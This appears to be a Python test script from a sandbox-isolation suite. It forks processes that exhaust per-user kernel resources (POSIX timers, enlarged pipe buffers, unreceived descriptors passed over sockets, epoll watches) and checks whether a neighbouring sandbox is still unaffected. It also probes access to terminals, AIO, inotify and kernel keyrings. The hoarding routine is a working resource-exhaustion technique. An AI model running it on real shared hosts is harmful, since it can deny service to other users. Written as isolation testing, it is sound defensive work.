"""Hoards what a host has few of, and what the kernel counts for a user rather than for a sandbox."""

import array
import ctypes
import fcntl
import os
import select
import socket

import attack

F_SETPIPE_SZ = 1031
MANY = 2_000
libc = ctypes.CDLL(None, use_errno=True)


def terminals() -> str:
    for descriptor in os.openpty():
        os.close(descriptor)
    return "a terminal"


def aio() -> str:
    context = ctypes.c_ulong()
    return attack.syscall("io_setup", 16, ctypes.byref(context))


def keys() -> str:
    keyring_of_the_process = -2
    return attack.syscall("add_key", b"user", b"iso-attack", b"x", 1, keyring_of_the_process)


def timer() -> None:
    identity = ctypes.c_void_p()
    if libc.timer_create(0, None, ctypes.byref(identity)):
        raise OSError(ctypes.get_errno(), "timer_create")


def wide_pipe() -> None:
    _, writer = os.pipe()
    fcntl.fcntl(writer, F_SETPIPE_SZ, 1 << 20)


def in_flight() -> None:
    """A descriptor that nobody receives; the kernel counts them by user."""
    pair = socket.socketpair()
    held.extend(pair)
    rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 16))
    pair[0].sendmsg([b"x"], [rights])


def watch() -> None:
    poller = select.epoll()
    pair = socket.socketpair()
    held.extend([*pair, poller])
    poller.register(pair[0])


held: list[object] = []
KINDS = (timer, wide_pipe, in_flight, watch)


def hoard() -> None:
    """In a process for each kind, since each has its own descriptors."""
    for kind in KINDS:
        reader, writer = os.pipe()
        if os.fork() == 0:
            count = 0
            try:
                while count < MANY:
                    kind()
                    count += 1
                end = "nothing stops it"
            except OSError as error:
                end = attack.describe(error.errno)
            os.write(writer, f"{count} of {kind.__name__} until {end}".encode())
            os.close(writer)
            select.select([], [], [])
        os.close(writer)
        print(os.read(reader, 200).decode(), flush=True)


role = attack.PARAMETERS.get("role")
if role == "hoarder":
    hoard()
    attack.height()
elif role == "neighbour":
    for one in KINDS:
        one()
    print("unaffected")
else:
    if attack.PARAMETERS["terminals"]:
        attack.attempt("terminal", terminals)
    attack.attempt("AIO", aio)
    attack.attempt("inotify", lambda: attack.syscall("inotify_init1", 0))
    attack.attempt("key", keys)
